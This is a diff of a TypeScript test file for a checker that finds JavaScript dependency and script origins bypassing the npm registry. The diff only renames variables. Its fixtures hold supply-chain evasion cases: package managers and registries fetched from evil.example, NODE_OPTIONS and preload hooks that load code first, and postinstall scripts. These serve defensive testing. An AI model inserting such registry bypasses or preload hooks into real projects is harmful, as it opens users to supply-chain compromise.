@@ -1,7 +1,7 @@
 /** Checks the origins of code in JavaScript projects: known forms pass, and every way around the registry is found. */
 import { originsIn } from './found';
 
-const manifest = (over: object): string => JSON.stringify({ name: 'x', version: '1.0.0', ...over }, null, 2);
+const manifest = (members: object): string => JSON.stringify({ name: 'x', version: '1.0.0', ...members }, null, 2);
 const SHA512 = `sha512-${'a'.repeat(86)}==`;
 const NPM = 'https://registry.npmjs.org/a/-/a-1.0.0.tgz';
 
@@ -23,8 +23,8 @@ test.each<[string, object]>([
   ],
   ['a request to this machine', { scripts: { ready: 'curl -f http://localhost:3000/health' } }],
   ['the manager by version', { packageManager: 'pnpm@9.1.0+sha512.0123abcd' }],
-])('package.json: %s pass', (_, over) => {
-  expect(originsIn('package.json', manifest(over), { declared: ['eslint', 'typescript'] })).toEqual([]);
+])('package.json: %s pass', (_, members) => {
+  expect(originsIn('package.json', manifest(members), { declared: ['eslint', 'typescript'] })).toEqual([]);
 });
 
 test.each<[string, object, RegExp]>([
@@ -80,11 +80,11 @@ test.each<[string, object, RegExp]>([
   ],
   ['code before each program', { scripts: { gen: 'NODE_OPTIONS=--require=./x.js node a.js' } }, /sets NODE_OPTIONS/],
   ['the manager from an address', { packageManager: 'yarn@https://evil.example/yarn.js' }, /is installed by/],
-])('package.json: %s is found', (_, over, what) => {
-  expect(originsIn('package.json', manifest(over), { declared: ['eslint'] }).join('\n')).toMatch(what);
+])('package.json: %s is found', (_, members, reason) => {
+  expect(originsIn('package.json', manifest(members), { declared: ['eslint'] }).join('\n')).toMatch(reason);
 });
 
-const started = (start: string): string => manifest({ scripts: { start } });
+const manifestWithStart = (start: string): string => manifest({ scripts: { start } });
 
 test.each([
   ['more options', 'node src/server.js', 'node --enable-source-maps src/server.js', 0],
@@ -92,14 +92,18 @@ test.each([
   ['something before it', 'node src/server.js', 'node setup.js && node src/server.js', 1],
   ['code that is loaded first', 'node src/server.js', 'node --require ./hook.js src/server.js', 1],
   ['another program', 'vite preview', 'serve dist', 1],
-])('npm start: %s', (_, before, after, found) => {
-  expect(originsIn('package.json', started(after), { before: started(before) })).toHaveLength(found);
+])('npm start: %s', (_, before, after, count) => {
+  expect(originsIn('package.json', manifestWithStart(after), { before: manifestWithStart(before) })).toHaveLength(
+    count,
+  );
 });
 
 test('an origin that the base already has is not found again, even if its file or its lines moved', () => {
-  const odd = manifest({ dependencies: { a: 'github:x/a' }, scripts: { postinstall: 'node setup.js' } });
-  expect(originsIn('package.json', `\n${odd}`, { before: odd })).toEqual([]);
-  expect(originsIn('package.json', odd.replace('node setup', 'node other'), { before: odd })).toHaveLength(1);
+  const unknownOrigins = manifest({ dependencies: { a: 'github:x/a' }, scripts: { postinstall: 'node setup.js' } });
+  expect(originsIn('package.json', `\n${unknownOrigins}`, { before: unknownOrigins })).toEqual([]);
+  expect(
+    originsIn('package.json', unknownOrigins.replace('node setup', 'node other'), { before: unknownOrigins }),
+  ).toHaveLength(1);
 });
 
 const packageLock = (entry: object, place = 'node_modules/a'): string =>
@@ -238,6 +242,6 @@ test.each<[string, string, string, RegExp]>([
   ['pnpm-workspace.yaml', 'a catalog with an address', 'catalog:\n  a: https://evil.example/a.tgz\n', /evil/],
   ['bunfig.toml', 'another registry', '[install]\nregistry = "https://evil.example"\n', /evil/],
   ['bunfig.toml', 'code before each program', 'preload = ["./x.ts"]\n', /preload/],
-])('%s: %s is found', (path, _, after, what) => {
-  expect(originsIn(path, after).join('\n')).toMatch(what);
+])('%s: %s is found', (path, _, after, reason) => {
+  expect(originsIn(path, after).join('\n')).toMatch(reason);
 });
